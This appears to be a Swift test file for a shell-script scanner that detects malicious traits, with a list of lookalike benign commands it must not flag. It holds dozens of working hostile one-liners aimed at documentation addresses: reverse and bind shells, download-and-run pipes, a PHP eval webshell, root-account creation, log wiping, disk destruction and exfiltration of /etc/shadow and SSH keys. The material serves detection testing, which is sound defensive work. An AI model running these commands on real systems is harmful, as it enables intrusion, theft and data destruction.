import Formats
import Model
import Testing

@Suite struct `What a script would do` {
    @Test(arguments: TraitExamples.found)
    func `is found where it really does it`(trait: Model.Trait, script: String) {
        let hits = ShellTraits.scan(Array(script.utf8).span)
        #expect(hits.contains { $0.trait == trait }, "\(script) → \(hits.map(\.trait))")
    }

    @Test(arguments: TraitExamples.quiet)
    func `is not found in what honest scripts do`(script: String) {
        let hits = ShellTraits.scan(Array(script.utf8).span)
        #expect(hits.isEmpty, "\(script) → \(hits.map(\.trait))")
    }

    @Test func `carries the place of its line`() throws {
        let script = "#!/bin/sh\n# comment\necho ok\nwget -q http://198.51.100.7/x -O - \\\n  | sh\n"
        let hit = try #require(ShellTraits.scan(Array(script.utf8).span).first)
        #expect(hit.line == 4)
        #expect(hit.offset == 28)
        #expect(hit.text == "wget -q http://198.51.100.7/x -O - \\")
    }

    @Test func `keeps at most 200 bytes of a long line`() throws {
        let script = "curl http://h/" + String(repeating: "a", count: 5000) + " | sh"
        #expect(try #require(ShellTraits.scan(Array(script.utf8).span).first).text.count == 200)
    }

    @Test func `is not sought in a program file`() {
        let binary: [UInt8] = [0x7f, 0x45, 0x4c, 0x46, 0, 0] + Array("\ncurl http://h/x | sh\n".utf8)
        #expect(ShellTraits.scan(binary.span).isEmpty)
    }

    @Test(arguments: ["(", "$(", "`", "\"$(", "${", "<(", "a=(", "[[ ", "case x in ", "<<E\n", "'", "((", "eval 'sh -c "])
    func `comes to an end on a deep or open construct`(piece: String) {
        let text = String(repeating: piece, count: 20_000)
        #expect(ShellTraits.scan(Array(text.utf8).span).count <= ShellTraits.mostHits)
    }
}

/// Lines with what they do, and lines that do nothing of the kind. Addresses are those of RFC 5737 and RFC 2606.
enum TraitExamples {
    static let found: [(Model.Trait, String)] = [
        (.downloadAndRun, "curl -fsSL http://203.0.113.5/a.sh | sh"),
        (.downloadAndRun, "wget -qO- http://203.0.113.5/a | bash -s -- -x"),
        (.downloadAndRun, "(curl -s http://203.0.113.5/a || wget -qO- http://203.0.113.5/a) | bash"),
        (.downloadAndRun, "curl http://203.0.113.5/a | sudo -E python3 -"),
        (.downloadAndRun, "sh -c \"$(curl -fsSL http://203.0.113.5/a)\""),
        (.downloadAndRun, "eval `wget -qO- http://203.0.113.5/a`"),
        (.downloadAndRun, "bash <(curl -s http://203.0.113.5/a)"),
        (.downloadAndRun, ". <(wget -O - http://203.0.113.5/a)"),
        (.downloadAndRun, "cd /opt; wget http://203.0.113.5/bot -O b; chmod +x b; ./b"),
        (.downloadAndRun, "curl -so /opt/k http://203.0.113.5/k && chmod 755 /opt/k && /opt/k"),
        (.downloadAndRun, "wget http://203.0.113.5/udp.pl\nperl udp.pl 192.0.2.1 80 60"),
        (.downloadAndRun, "curl http://203.0.113.5/t > t.py; nohup python t.py &"),
        (.downloadAndRun, "python3 -c \"import urllib.request; exec(urllib.request.urlopen('http://203.0.113.5/x').read())\""),
        (.downloadAndRun, "curl -s http://203.0.113.5/cron | crontab -"),
        (.downloadAndRun, "echo '* * * * * curl http://203.0.113.5/a | sh' | crontab -"),
        (.reverseShell, "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
        (.reverseShell, "bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"),
        (.reverseShell, "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done"),
        (.reverseShell, "0<&196;exec 196<>/dev/tcp/203.0.113.5/53; sh <&196 >&196 2>&196"),
        (.reverseShell, "nc -e /bin/sh 203.0.113.5 4444"),
        (.reverseShell, "busybox nc 203.0.113.5 4444 -e /bin/bash"),
        (.reverseShell, "ncat --exec /bin/bash 203.0.113.5 4444"),
        (.reverseShell, "rm -f /run/f;mkfifo /run/f;cat /run/f|/bin/sh -i 2>&1|nc 203.0.113.5 9001 >/run/f"),
        (.reverseShell, "mkfifo /run/s; /bin/sh -i < /run/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /run/s"),
        (.reverseShell, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.5:4444"),
        (.reverseShell, "telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445"),
        (
            .reverseShell,
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"
        ),
        (
            .reverseShell,
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,inet_aton(\"203.0.113.5\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'"
        ),
        (
            .reverseShell,
            "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.5:1\");STDIN->fdopen($c,r);system$_ while<>; # /bin/sh'"
        ),
        (.reverseShell, "php -r '$s=fsockopen(\"203.0.113.5\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
        (.reverseShell, "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.5\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'"),
        (.reverseShell, "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/443\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'"),
        (.bindShell, "nc -lvp 4444 -e /bin/sh"),
        (.bindShell, "ncat -l 4444 --sh-exec '/bin/bash -i'"),
        (.bindShell, "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr"),
        (.bindShell, "mkfifo f; nc -l -p 4444 < f | /bin/sh > f 2>&1"),
        (.decodeAndRun, "echo Y3VybA== | base64 -d | sh"),
        (.decodeAndRun, "base64 --decode <<< Y3VybA== | bash"),
        (.decodeAndRun, "eval \"$(echo Y3VybA== | base64 -d)\""),
        (.decodeAndRun, "bash -c \"$(printf %s Y3VybA== | openssl base64 -d)\""),
        (.decodeAndRun, "echo 6375726c | xxd -r -p | bash"),
        (.decodeAndRun, "printf '\\x63\\x75\\x72\\x6c\\x20\\x68' | sh"),
        (.decodeAndRun, "python -c \"exec(__import__('base64').b64decode('cHJpbnQ='))\""),
        (.decodeAndRun, "<?php @eval(base64_decode($_POST['x'])); ?>"),
        (.decodeAndRun, "<?php\neval ( gzinflate(base64_decode('AAAA')));"),
        (.decodeAndRun, "#!/usr/bin/perl\neval unpack u=>q{abc};\n"),
        (.runsFromTemporaryFolder, "/tmp/.x/kworker -c /tmp/.x/c"),
        (.runsFromTemporaryFolder, "nohup /dev/shm/kdev >/dev/null 2>&1 &"),
        (.runsFromTemporaryFolder, "sh /var/tmp/update.sh"),
        (.runsFromTemporaryFolder, "cd /tmp && ./bot"),
        (.runsFromTemporaryFolder, "su -c '/var/tmp/a' nobody"),
        (.runsFromHiddenFolder, "/root/.x/bash"),
        (.runsFromHiddenFolder, "sh /usr/share/.man/run"),
        (.runsFromHiddenFolder, "cd /var/lib/.cache && ./y2kupdate >/dev/null 2>&1"),
        (.deceptivePath, "sh . ../update"),
        (.deceptivePath, "cd \"/var/tmp/. ..\" && ./update"),
        (.deceptivePath, "/root/.\\ ../update"),
        (.deceptivePath, "cp x /usr/lib/.../y"),
        (.hidesHistory, "unset HISTFILE"),
        (.hidesHistory, "export HISTFILE=/dev/null"),
        (.hidesHistory, "HISTSIZE=0"),
        (.hidesHistory, "history -c"),
        (.hidesHistory, "ln -sf /dev/null ~/.bash_history"),
        (.hidesHistory, "cat /dev/null > /root/.bash_history"),
        (.hidesHistory, "set +o history"),
        (.preloadsLibrary, "LD_PRELOAD=/lib/x.so /usr/sbin/sshd"),
        (.preloadsLibrary, "export LD_PRELOAD=/usr/lib/libprocesshider.so"),
        (.preloadsLibrary, "echo /usr/local/lib/x.so >> /etc/ld.so.preload"),
        (.preloadsLibrary, "env LD_PRELOAD=/x.so ls"),
        (.preloadsLibrary, "#!/usr/bin/python3\nimport os\nos.environ['LD_PRELOAD'] = '/x.so'\n"),
        (.makesImmutable, "chattr +i /usr/sbin"),
        (.makesImmutable, "chattr -R +ia /root/.ssh/authorized_keys"),
        (.minesCurrency, "./a -o stratum+tcp://pool.example.net:3333 -u 4AAA"),
        (.minesCurrency, "nice xmrig -c /etc/x.json"),
        (.minesCurrency, "/opt/sys --donate-level 1 -o pool.example.net:80"),
        (.speaksIRC, "server=irc.example.net:6667"),
        (.speaksIRC, "#!/usr/bin/perl\nprint $s \"NICK $n\\r\\n\";\nprint $s \"JOIN #own\\r\\n\";\n"),
        (.speaksIRC, "printf 'NICK a\\r\\nUSER a 8 * :a\\r\\nJOIN #x\\r\\nPRIVMSG #x :up\\r\\n' >&5"),
        (.addsLogin, "echo 'x:$1$a$b:0:0::/root:/bin/bash' >> /etc/passwd"),
        (.addsLogin, "useradd -o -u 0 -g 0 support"),
        (.addsLogin, "useradd -ou 0 support"),
        (.addsLogin, "echo root:secret | chpasswd"),
        (.addsLogin, "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
        (.addsLogin, "cat k | tee -a /root/.ssh/authorized_keys"),
        (.setsPrivilege, "cp /bin/bash /opt/b; chmod 4755 /opt/b"),
        (.setsPrivilege, "chmod u+s /opt/b"),
        (.setsPrivilege, "setcap cap_setuid+ep /usr/bin/python3.11"),
        (.disablesDefence, "iptables -F"),
        (.disablesDefence, "setenforce 0"),
        (.disablesDefence, "systemctl disable --now auditd.service"),
        (.disablesDefence, "service rsyslog stop"),
        (.disablesDefence, "/etc/init.d/fail2ban stop"),
        (.disablesDefence, "sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config"),
        (.wipesLogs, "rm -rf /var/log"),
        (.wipesLogs, "rm -f /var/log/auth.log*"),
        (.wipesLogs, "cat /dev/null > /var/log/wtmp"),
        (.wipesLogs, "> /var/log/lastlog"),
        (.wipesLogs, "echo > /var/log/secure"),
        (.wipesLogs, "sed -i '/203.0.113.5/d' /var/log/auth.log"),
        (.wipesLogs, "find /var/log -type f -exec truncate -s 0 {} \\;"),
        (.wipesLogs, "#!/usr/bin/perl\nsystem(\"rm -rf /var/log/*\");\n"),
        (.destroysFiles, "rm -rf /"),
        (.destroysFiles, "rm -rf --no-preserve-root /*"),
        (.destroysFiles, "dd if=/dev/zero of=/dev/sda bs=1M"),
        (.loadsKernelModule, "insmod /tmp/diamorphine.ko"),
        (.loadsKernelModule, "insmod ./rk.ko"),
        (.setsTimes, "touch -r /bin/ls /usr/bin/x"),
        (.setsTimes, "touch -t 201103120030 update"),
        (.setsTimes, "touch -d '2011-03-12 00:30' /root/x"),
        (.sendsOut, "curl --data @/etc/shadow http://203.0.113.5/"),
        (.sendsOut, "curl -F file=@/root/.ssh/id_rsa http://203.0.113.5/"),
        (.sendsOut, "cat /etc/shadow | nc 203.0.113.5 80"),
        (.sendsOut, "mail -s new a@example.net < /etc/passwd"),
        (.sendsOut, "tar cz /root/.ssh | curl -T - http://203.0.113.5/u"),
    ]

    static let quiet: [String] = [
        "curl -o /opt/file.tar.gz https://example.org/file.tar.gz",
        "wget https://example.org/file.tar.gz",
        "curl -fsSL https://example.org/x.tar.gz | tar xz -C /opt",
        "curl -fsSL https://example.org/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        "wget -qO- https://example.org/key.asc | apt-key add -",
        "curl -s https://example.org/api | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
        "curl -s https://example.org/api | python3 -m json.tool",
        "curl -s https://example.org/api | perl -ne 'print if /x/'",
        "curl -s https://example.org/api | jq -r .name",
        "# curl http://203.0.113.5/a | sh",
        "echo 'run: curl https://example.org/install.sh | sh'",
        "echo \"do not pipe curl to sh\" # curl x | sh",
        "cat <<EOF\ncurl https://example.org/install.sh | sh\nEOF",
        "wget https://example.org/install\ninstall -m 755 x /usr/local/bin/x",
        "TMP=$(mktemp -d); tar -C \"$TMP\" -xf x.tar; \"$TMP/setup\"",
        "tar -C /tmp -xf backup.tar",
        "rm -rf /tmp/build-*",
        "cp /tmp/x /usr/bin/y",
        "test -x /tmp/x || exit 0",
        "cd /tmp\nls",
        "cd /var/lib && ./configure",
        "timeout 1 bash -c '</dev/tcp/db.example.org/5432'",
        "until (echo > /dev/tcp/localhost/3306) 2>/dev/null; do sleep 1; done",
        "nc -z localhost 22",
        "echo stats | nc localhost 11211",
        "nc -l 9000 > file",
        "socat - UNIX-CONNECT:/run/x.sock",
        "openssl s_client -connect example.org:443 < /dev/null | openssl x509 -noout -dates",
        "exec bash -i",
        "mkfifo /run/x && cat < /run/x",
        "base64 -d < x > y",
        "echo \"$SECRET\" | base64 -d > /etc/key.pem",
        "eval \"$(ssh-agent -s)\"",
        "eval \"$(dircolors -b)\"",
        "eval `lesspipe`",
        "~/.local/bin/backup --all",
        "$HOME/.cargo/bin/sccache --stop-server",
        ". ~/.bashrc",
        ". /root/.profile",
        "source ~/.venv/bin/activate",
        "[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"",
        "go test ./...",
        "echo \"please wait ...\"",
        "sed -e 's/ . //' -e 's/...$//' x",
        "cd ..; ls ../..",
        "HISTSIZE=1000; HISTFILESIZE=2000",
        "HISTCONTROL=ignoredups:ignorespace",
        "shopt -s histappend",
        "history | tail",
        "unset LD_PRELOAD",
        "[ -n \"$LD_PRELOAD\" ] && echo yes",
        "LD_PRELOAD= ls",
        "env -u LD_PRELOAD ls",
        "chattr -i /etc/resolv.conf",
        "chattr +C /var/lib/images",
        "useradd --system --home /var/lib/x --shell /usr/sbin/nologin x",
        "adduser --system --group --no-create-home x",
        "echo \"$user:$password\" | chpasswd",
        "chmod 755 /usr/bin/x; chmod 2775 /srv/share; chmod +x y",
        "setcap cap_net_bind_service=+ep /usr/bin/caddy",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        "iptables -F my-chain",
        "systemctl restart rsyslog",
        "systemctl stop apache2",
        "service cron restart",
        "rm -f /var/log/myapp/*.log.*.gz",
        "rm -f /var/log/postgresql/old.log",
        ": > /var/log/myapp.log",
        "echo started >> /var/log/messages",
        "for f in a b; do echo $f; done > /var/log/secure.new",
        "find /var/log/myapp -mtime +30 -delete",
        "find /var/log -name '*.gz' -mtime +90 -delete",
        "journalctl --vacuum-time=30d",
        "rm -rf /var/lib/x/cache",
        "rm -rf \"$DESTDIR/usr\"",
        "dd if=/dev/zero of=/swapfile bs=1M count=1024",
        "insmod /lib/modules/6.1.0/extra/x.ko",
        "insmod part_gpt",
        "modprobe br_netfilter",
        "touch /var/run/x.stamp",
        "touch -r \"$old\" \"$new\"",
        "touch -d '2 hours ago' \"$stamp\"",
        "curl --data @/etc/app/query.json https://example.org/",
        "scp /etc/motd host:/etc/motd",
        "mail -s report admin@example.org < /var/tmp/report.txt",
        "ssh-copy-id root@backup",
        "case \"$1\" in start) /usr/sbin/x ;; stop|restart) kill $(cat /run/x.pid) ;; esac",
        "if [ -x /usr/sbin/logrotate ]; then /usr/sbin/logrotate /etc/logrotate.conf; fi",
        "[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then invoke-rc.d anacron start >/dev/null; fi",
        "ListenPort=6667",
        "#!/usr/bin/python3\n# eval(base64_decode(\nimport base64\nprint(base64.b64decode('QQ=='))\n",
        "#!/usr/bin/python3\nimport socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nsubprocess.run(['ls'])\n",
        "<?php echo htmlspecialchars($_GET['q']); ?>",
        "",
        "\u{0}\u{1}",
    ]
}
